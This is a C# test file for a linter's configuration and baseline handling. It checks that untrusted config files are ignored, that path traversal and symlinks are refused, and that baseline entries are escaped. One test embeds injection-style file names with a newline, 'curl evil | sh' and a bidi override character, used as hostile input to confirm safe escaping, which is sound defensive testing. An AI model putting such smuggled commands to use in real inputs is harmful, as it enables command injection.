using System.Security.Cryptography;
using ApimLint.Baselines;
using ApimLint.Tests.Fixtures;

namespace ApimLint.Tests.Configuration;

/// <summary>
/// apimlint.json and the baseline as a deployment's author could write them: found only where the deployment's
/// own repository is, trusted only when the user's own, and never a way to read or write outside the folder.
/// </summary>
public sealed class ConfinedConfigTests
{
    // Read, this would end the run with exit 2: a run that exits 1 (the example's findings) proves it was not read.
    private const string BrokenConfig = "{ \"rules\": ";

    [Fact]
    public void An_apimlint_json_others_can_write_in_a_parent_folder_is_ignored_with_a_warning()
    {
        // Windows has no mode bits to check; there the ownership rule is not applied.
        if (OperatingSystem.IsWindows()) return;
        using var temp = new TempDirectory();
        var deployment = Repository(temp, "repo/deploy");
        var shared = Path.Combine(temp.Path, "repo", "apimlint.json");
        File.WriteAllText(shared, BrokenConfig);
        File.SetUnixFileMode(shared, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.GroupWrite | UnixFileMode.OtherRead | UnixFileMode.OtherWrite);

        var result = Apimlint.Run(deployment, "check", ".");

        Assert.Equal(1, result.ExitCode);
        Assert.Equal($"apimlint: warning: {shared}: ignored, other users can write it\n", result.Stderr);
    }

    [Fact]
    public void An_apimlint_json_above_the_repository_or_above_a_folder_outside_any_repository_is_not_looked_for()
    {
        using var temp = new TempDirectory();
        File.WriteAllText(Path.Combine(temp.Path, "apimlint.json"), BrokenConfig);
        var inRepository = Repository(temp, "repo/deploy");
        var outsideRepositories = Path.Combine(temp.Path, "plain", "deploy");
        FixtureCase.CopyDirectory(TestPaths.Fixture("example"), outsideRepositories);
        File.WriteAllText(Path.Combine(temp.Path, "plain", "apimlint.json"), BrokenConfig);

        Assert.Equal((1, ""), Result(Apimlint.Run(inRepository, "check", ".")));
        Assert.Equal((1, ""), Result(Apimlint.Run(outsideRepositories, "check", ".")));
    }

    [Fact]
    public void The_users_own_apimlint_json_in_a_parent_folder_of_the_repository_is_read()
    {
        using var temp = new TempDirectory();
        var deployment = Repository(temp, "repo/deploy");
        File.WriteAllText(Path.Combine(temp.Path, "repo", "apimlint.json"), "{ \"failLevel\": \"none\" }");

        Assert.Equal((0, ""), Result(Apimlint.Run(deployment, "check", ".")));
    }

    [Fact]
    public void Baseline_write_replaces_no_file_outside_the_folder_nor_writes_through_a_link()
    {
        using var temp = new TempDirectory();
        var deployment = Repository(temp, "deploy");
        var outside = Path.Combine(temp.Path, "outside.txt");
        File.WriteAllText(outside, "not apimlint's to replace\n");
        var before = SHA256.HashData(File.ReadAllBytes(outside));

        File.WriteAllText(Path.Combine(deployment, "apimlint.json"), "{ \"baseline\": \"../outside.txt\" }");
        var named = Apimlint.Run(deployment, "baseline", "write");
        File.Delete(Path.Combine(deployment, "apimlint.json"));
        File.CreateSymbolicLink(Path.Combine(deployment, "apimlint.baseline"), outside);
        var linked = Apimlint.Run(deployment, "baseline", "write");

        Assert.Equal((2, $"apimlint: {deployment}/apimlint.json:1:15: baseline leads outside the deployment folder, which apimlint does not read or write\n"), Result(named));
        Assert.Equal((2, $"apimlint: {deployment}/apimlint.baseline: it is a symbolic link, which apimlint does not write through\n"), Result(linked));
        Assert.Equal(before, SHA256.HashData(File.ReadAllBytes(outside)));
    }

    [Fact]
    public void A_baseline_entry_is_one_line_of_data_whatever_the_file_names_and_messages_hold()
    {
        var baseline = new Baseline([
            new BaselineEntry("c5e485ad4e6c8a1b", "APIM001", "db/x\ncurl evil | sh\n.sql", "x\u202Ecurl  evil\\ does not parse"),
        ]);

        var text = baseline.ToText();
        var entries = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Where(l => !l.StartsWith('#')).ToList();

        Assert.Equal([@"c5e485ad4e6c8a1b  APIM001  db/x\u000Acurl evil | sh\u000A.sql  x\u202Ecurl\u0020 evil\\ does not parse"], entries);
        Assert.Single(Baseline.Parse(text, "b").Entries);
        Assert.Throws<FormatException>(() => Baseline.Parse("c5e485ad4e6c8a1b  APIM001  a\u202Eb  m\n", "b"));
        Assert.Throws<FormatException>(() => Baseline.Parse("not-a-fingerprint  APIM001  a  m\n", "b"));
    }

    /// <summary>The example deployment at <paramref name="relative"/> inside a repository rooted at the temporary folder's first segment.</summary>
    private static string Repository(TempDirectory temp, string relative)
    {
        var deployment = Path.Combine(temp.Path, relative);
        FixtureCase.CopyDirectory(TestPaths.Fixture("example"), deployment);
        Directory.CreateDirectory(Path.Combine(temp.Path, relative.Split('/')[0], ".git"));
        return deployment;
    }

    private static (int, string) Result(Apimlint.Result result) => (result.ExitCode, result.Stderr);
}
